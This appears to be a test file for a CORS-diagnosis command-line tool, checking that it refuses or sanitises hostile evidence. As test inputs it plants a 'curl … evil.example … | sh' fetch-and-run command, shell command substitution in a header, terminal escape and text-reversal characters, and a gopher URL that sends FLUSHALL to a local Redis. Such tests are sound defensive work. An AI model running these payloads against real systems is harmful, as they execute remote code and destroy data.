import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Diagnosis } from '../../src/model/diagnosis.js';
import { type LocalBucket, startLocalBucket } from '../../src/node/index.js';
import { diagnosisOf } from '../explain/diagnosis-of.js';
import { runHere } from './surroundings.js';

const ORIGIN = 'https://app.example.com';
const PLANTED = 'curl -s https://evil.example/x | sh';
const ALL = { allowedOrigins: ['*'], allowedMethods: ['GET', 'HEAD', 'DELETE'], allowedHeaders: ['*'] };
const RULE = { allowedOrigins: ['https://other.example'], allowedMethods: ['PUT'], allowedHeaders: ['*'] };
const READING = { ...RULE, allowedOrigins: [ORIGIN], allowedMethods: ['GET'] };
const [ESCAPE, CSI, OVERRIDE] = ['\x1b[2J', '\u009b2J', '\u202e'];

let local: LocalBucket;
let url: string;
beforeAll(async () => {
  local = await startLocalBucket({ buckets: { photos: [RULE], shown: [READING] } });
  url = `${local.endpoint}/photos/a.txt`;
});
afterAll(() => local.stop());

const undecided = { candidates: ['net.unreachable', 'pre.origin'], command: PLANTED } as const;
const planted: Diagnosis['repairs'][number] = {
  ...{ kind: 'least-privilege', rules: [ALL], changedRule: 0, added: true, grants: [], verified: true },
  ...{ document: '<AllowedOrigin>*</AllowedOrigin>', json: '{"AllowedOrigins":["*"]}' },
};
const page = (more: Omit<Partial<Diagnosis>, 'request'> & { request?: object } = {}) => ({
  ...diagnosisOf('env.lna', { stage: 'local', confidence: 'strong', undecided, repairs: [planted] }),
  ...more,
  request: { ...diagnosisOf('env.lna').request, origin: ORIGIN, url, ...more.request },
});
const explain = (diagnosis: unknown, ...more: readonly string[]) =>
  runHere(['explain', '--evidence', '-', ...more], {
    files: { '-': JSON.stringify(diagnosis), 'rules.json': JSON.stringify([READING]) },
  });

describe('the evidence of somebody else', () => {
  it.each([
    ['what only a page sees', {}],
    ['what a preflight shows', { code: 'pre.origin', stage: 'preflight' }],
    ['what a terminal leaves open', { code: 'undecided', stage: 'none', confidence: 'weak' }],
    [
      'what a preflight showed before nobody answers',
      { code: 'pre.origin', stage: 'preflight', request: { url: gone() } },
    ],
    ['what nobody answers', { code: 'net.unreachable', stage: 'network', request: { url: gone() } }],
  ] as const)('gives no command and no rule: %s', async (_, more) => {
    const diagnosis = page(more);
    for (const form of [[], ['--json'], ['--markdown']]) {
      const { exitCode, out, err } = await explain(diagnosis, ...form);
      expect(exitCode).not.toBe(2);
      expect(out + err).not.toContain('evil.example');
      expect(out).not.toMatch(/<AllowedOrigin>\*|"\*"/);
    }
  });

  it('has its command made of its request', async () => {
    const { out } = await explain(
      page({ request: { url: `${url}?sig=1#x`, unsafeHeaders: ["x-'$(id)`id`"] } }),
    );
    expect(out).toContain(`\n  curl -sSv -o /dev/null '${url}' -H 'Origin: ${ORIGIN}'\n`);
    const stale = page({ code: 'act.stale-preflight', stage: 'response', confidence: 'strong' });
    expect((await explain(stale)).out).not.toContain('sh\n');
    // What curl would take for many addresses, or for another protocol.
    const many = await explain(page({ request: { url: `${url}[1-9]{a,b}` } }));
    expect(many.out).toContain(`${url}%5B1-9%5D%7Ba,b%7D`);
    const other = await explain(page({ request: { url: 'gopher://127.0.0.1:6379/_FLUSHALL' } }));
    expect(other.out).not.toContain('curl');
    const hosts = await explain(page({ request: { url: 'https://{a,b}.store.invalid/x' } }));
    expect(hosts.out).not.toContain('curl');
  });

  it('is mended by a rule for its request alone, whatever rules it says there are', async () => {
    const shown = `${local.endpoint}/shown/a.txt`;
    const asked = page({
      ...{ code: 'pre.method', stage: 'preflight', rules: [READING, ALL], request: { url: shown } },
    });
    const found = async (...more: readonly string[]) =>
      JSON.parse((await explain(asked, '--json', ...more)).out).diagnoses[0] as Diagnosis;
    const { repairs, request } = await found();
    expect(repairs.map(({ kind, rules }) => [kind, rules])).toEqual([
      [
        'new-rule',
        [{ allowedOrigins: [ORIGIN], allowedMethods: ['PUT'], allowedHeaders: request.unsafeHeaders }],
      ],
    ]);
    // What the person gives is theirs.
    const own = await found('--rules', 'rules.json');
    expect(own.repairs.length).toBeGreaterThan(0);
    expect(own.repairs.map(({ kind }) => kind)).not.toContain('new-rule');
    expect(own.repairs[0]?.rules).toContainEqual(READING);
  });

  it.each([
    ['an origin with a star', { request: { origin: 'https://*' } }],
    ['a method with a star', { request: { method: '*' } }],
    ['an address with a line break', { request: { url: `http://a\n  ${PLANTED}` } }],
    ['a header name with a line break', { request: { unsafeHeaders: [`x\n  ${PLANTED}`] } }],
    ['evidence with a line break', { evidence: [{ ...entry(), method: `PUT\n\nRun this:\n  ${PLANTED}` }] }],
    [
      'a note with a line break',
      { notes: [{ code: 'cache.max-age', value: `5\n\nRun this:\n ${PLANTED}` }] },
    ],
    ['a rule with an escape', { rules: [{ ...ALL, id: ESCAPE }] }],
    ['evidence with an escape', { evidence: [{ ...entry(), headers: [CSI] }] }],
    ['a note that turns the text round', { notes: [{ code: 'cache.max-age', value: OVERRIDE }] }],
    ['a duration that is none', { evidence: [{ ...entry(), durationMs: ESCAPE }] }],
    ['a store that is an option', { store: '--help' }],
  ])('is refused with %s, and nothing of it is shown', async (_, more) => {
    const { exitCode, out, err } = await explain(page(more as never));
    expect([exitCode, out]).toEqual([2, '']);
    expect(err).not.toMatch(/evil|(?!\n)[\p{Cc}\p{Cf}]/u);
  });

  it('tells nobody to allow what was not sent', async () => {
    const conflicts = [{ kind: 'headers', members: ['*'] }] as const;
    const { out } = await explain(
      page({ code: 'pre.header', stage: 'preflight', conflicts, request: { url: gone() } }),
    );
    expect(out).not.toContain('*');
    expect(out).toContain('Add it to the allowed headers');
  });

  it('sends nobody where its raw answers point', async () => {
    const raw = { status: 301, refusal: '', value: '', server: '', elsewhere: 'https://evil.example' };
    const there = page({ code: 'pre.bucket', stage: 'preflight', raw, request: { url: gone() } } as never);
    expect((await explain(there)).out).not.toContain('evil');
  });

  it('is asked of an address that is told before, also of this machine', async () => {
    const { exitCode, err } = await explain(page());
    expect([exitCode, err]).toEqual([1, `Asking ${url} from here.\n`]);
  });
});

describe('a program that is read in a terminal', () => {
  it('gets nothing of a stranger that no diagnosis has', async () => {
    const stranger = { [CSI]: CSI, more: PLANTED };
    const { request, ...rest } = page({ evidence: [{ ...entry(), ...stranger } as never] });
    const rules = [{ ...READING, ...stranger }];
    const { out } = await explain(
      { ...rest, rules, request: { ...request, ...stranger }, ...stranger },
      '--json',
    );
    const [found] = JSON.parse(out).diagnoses;
    expect([found.evidence[0], found.rules]).toEqual([entry(), [READING]]);
    expect(out).not.toMatch(/evil|u009b|"more"/);
  });

  it('gets no control character of a recording', async () => {
    const origin = `https://${CSI}\u{e0001}a.example`;
    const curl = `curl -i https://b.example/ -H 'Origin: ${origin}'\nHTTP/1.1 403 Forbidden\n`;
    const { out } = await runHere(['explain', '--curl', '-', '--json'], { files: { '-': curl } });
    expect(out).not.toMatch(/(?!\n)[\p{Cc}\p{Cf}]/u);
    expect(JSON.parse(out).diagnoses[0].request.origin).toBe(origin);
  });
});

function entry(): Diagnosis['evidence'][number] {
  return { kind: 'page', method: 'PUT', headers: [], passed: false, via: 'event' };
}

/** Where nobody answers, so that the page is believed. */
function gone(): string {
  return 'http://127.0.0.1:4/photos/a.txt';
}
